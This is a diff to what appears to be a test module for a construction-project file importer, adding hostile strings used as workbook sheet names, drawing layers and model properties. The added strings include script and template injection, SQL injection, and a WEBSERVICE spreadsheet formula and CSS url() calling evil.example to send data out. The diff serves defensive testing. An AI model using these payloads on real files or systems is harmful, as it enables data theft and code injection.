@@ -9,6 +9,7 @@ from xml.sax.saxutils import escape
 
 import ifcopenshell
 import ifcopenshell.guid
+from openpyxl import Workbook
 
 from progress.reports import Report, Role, Said, SubjectKind
 from services.imports import accept_file
@@ -64,6 +65,17 @@ WORDS = (
     "</textarea></title></style><b>",
     "%{x} %{customdata[0]} <extra>e</extra> <br><b>b</b>",
     "\x07\x1b]0;title\x1b\\\x1b[31m",
+    f"]]><script>{RUN}</script><![CDATA[",
+    f"\"}};{RUN};//",
+    f"javascript:{RUN}",
+    "=WEBSERVICE(\"http://evil.example/\"&A1)",
+    "\t=1+1",
+    "\r\n@SUM(1)",
+    ":red-badge[x] :gray-background[y] ^sup^ ==mark==",
+    "{{constructor.constructor('window.top.__pwned=1')()}} ${window.top.__pwned=1}",
+    "body{background:url(http://evil.example/css2)}",
+    "' UNION SELECT 1 -- \" OR 1=1",
+    "C:\\..\\..\\windows\\system32 \\\\evil.example\\share",
 )  # fmt: skip
 
 CODE = "A&b?c=1#d%2F+e f'\"`:x"
@@ -93,6 +105,11 @@ def hostile_programme(workspace: Workspace, folder: Path) -> None:
         path.write_text(text, encoding="utf-8")
         outcome = accept_file(workspace, CODE, path, name=WORDS[number] + name, entered_at=ENTERED)
         assert outcome.status in TAKEN, (name, outcome.refusal)
+    for number, (name, data) in enumerate((("plan.xlsx", _workbook()), ("drawing.dxf", _drawing().encode("utf-8")))):
+        path = folder / name
+        path.write_bytes(data)
+        outcome = accept_file(workspace, CODE, path, name=WORDS[number] + name, entered_at=ENTERED)
+        assert outcome.status is ImportStatus.ASKED, (name, outcome.refusal)  # and waits: its questions are on the page
     for number, word in enumerate(WORDS):  # what is refused is told as well
         path = folder / "refused.csv"
         path.write_text(f"{word.strip().splitlines()[0] or 'x'}\n", encoding="utf-8")
@@ -161,6 +178,38 @@ def _features(properties: object) -> str:
     return json.dumps({"type": "FeatureCollection", "name": WORDS[2], "features": found})
 
 
+def _workbook() -> bytes:
+    """A plan whose sheets, headings and cells are words, two of the sheets possible."""
+    book = Workbook()
+    book.remove(book.active)
+    for number, word in enumerate(WORDS):
+        name = "".join(sign for sign in word if sign.isprintable() and sign not in "[]:*?/\\").strip("'")[:24]
+        sheet = book.create_sheet(f"{name}{number}")
+        sheet.append(["任务名称", "计划开始", "计划完成", *(_printed(other)[:200] for other in WORDS)])
+        for row, other in enumerate(WORDS):
+            sheet.append([_printed(other) or "x", date(2026, 1, 5), date(2026, 2, 5)])
+            sheet.cell(row + 2, 1).data_type = "s"
+        for cell in sheet[1]:
+            cell.data_type = "s"
+    target = io.BytesIO()
+    book.save(target)
+    return target.getvalue()
+
+
+def _printed(word: str) -> str:
+    """A word without what no workbook holds."""
+    return "".join(sign for sign in word if sign >= " " or sign in "\n\t")
+
+
+def _drawing() -> str:
+    """A drawing with one line on a layer of each word."""
+    lines = ["0\nSECTION\n2\nENTITIES"]
+    for number, word in enumerate(WORDS):
+        layer = " ".join(_printed(word).split())[:200] or "x"
+        lines.append(f"0\nLINE\n8\n{layer}\n10\n{500000 + number}\n20\n3300000\n11\n{500100 + number}\n21\n3300100")
+    return "\n".join([*lines, "0\nENDSEC\n0\nEOF\n"])
+
+
 def _plan() -> str:
     plain = ["".join(sign for sign in word if sign >= " " or sign in "\n\t") for word in WORDS]
     clean = [escape(word) for word in plain]
@@ -181,6 +230,9 @@ def _plan() -> str:
 def _model() -> str:
     """One wall for each word, which is also its storey, its tag, its type and its material."""
     made = ifcopenshell.file(schema="IFC4")
+    made.header.file_name.time_stamp = WORDS[0]
+    made.header.file_name.originating_system = ""
+    made.header.file_description.description = (WORDS[2], WORDS[11])
     new = made.create_entity
     at = new("IfcAxis2Placement3D", new("IfcCartesianPoint", (0.0, 0.0, 0.0)))
     body = new("IfcGeometricRepresentationContext", WORDS[0], "Model", 3, 1e-5, at)
@@ -212,6 +264,9 @@ def _model() -> str:
         quantity = new("IfcElementQuantity", ifcopenshell.guid.new(), None, "Qto_WallBaseQuantities", None, None,
                        [new("IfcQuantityLength", "Length", None, None, float(number))])  # fmt: skip
         new("IfcRelDefinesByProperties", ifcopenshell.guid.new(), None, None, None, [wall], quantity)
+        told = new("IfcPropertySingleValue", word, word, new("IfcText", word))
+        properties = new("IfcPropertySet", ifcopenshell.guid.new(), None, f"Pset_{word}", word, [told])
+        new("IfcRelDefinesByProperties", ifcopenshell.guid.new(), None, None, None, [wall], properties)
         storeys.append(storey)
     new("IfcRelAggregates", ifcopenshell.guid.new(), None, None, None, project, storeys)
     return str(made.to_string())
